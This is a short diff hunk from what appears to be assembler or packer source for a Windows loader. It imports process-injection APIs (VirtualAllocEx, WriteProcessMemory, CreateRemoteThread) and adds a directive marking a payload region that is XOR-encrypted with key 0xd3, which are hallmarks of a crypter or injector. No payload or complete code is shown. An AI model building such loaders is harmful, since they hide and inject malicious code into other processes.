@@ -5,6 +5,7 @@
 %import kernel32.dll GetModuleFileNameA, CreateProcessA, VirtualAllocEx, WriteProcessMemory, CreateRemoteThread
 %import kernel32.dll WaitForSingleObject, ExitProcess
 %entry start
+%payload payload payload_end
 %encrypt payload payload_end 0xd3
 
 %section .text rx
